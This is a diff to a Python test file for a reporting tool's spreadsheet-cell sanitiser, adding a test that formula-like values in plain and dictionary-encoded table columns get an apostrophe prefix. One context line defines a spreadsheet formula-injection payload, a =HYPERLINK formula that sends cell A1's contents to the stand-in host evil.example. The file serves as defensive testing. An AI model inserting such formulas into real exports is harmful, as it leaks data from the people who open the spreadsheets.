@@ -19,7 +19,7 @@ from typer.testing import CliRunner
 from tests.reports.synthetic import synthetic_tables, write_parquet
 from utfall.analytics.schema import conform
 from utfall.cli import app
-from utfall.reports.safe_cells import neutralise, neutralise_row
+from utfall.reports.safe_cells import neutralise, neutralise_row, neutralise_table
 
 runner = CliRunner()
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"klicka")'
@@ -58,6 +58,15 @@ def test_helper_cases() -> None:
     assert neutralise("-2+3") == "'-2+3"
     assert neutralise("Beroende") == "Beroende" and neutralise(7) == 7 and neutralise(None) is None
     assert neutralise_row(["a", "@x", 1.5]) == ["a", "'@x", 1.5]
+
+
+def test_table_helper_covers_dictionary_columns() -> None:
+    table = pa.table({"plain": ["=1+1", "ok"], "coded": pa.array([CALC, "ok"]).dictionary_encode(),
+                      "n": [-1.5, 2.0]})
+    safe = neutralise_table(table)
+    assert safe.column("plain").to_pylist() == ["'=1+1", "ok"]
+    assert safe.column("coded").to_pylist() == ["'" + CALC, "ok"]
+    assert safe.column("n").to_pylist() == [-1.5, 2.0]
 
 
 def test_full_report_xlsx_has_no_formula(folder: Path, tmp_path: Path) -> None:
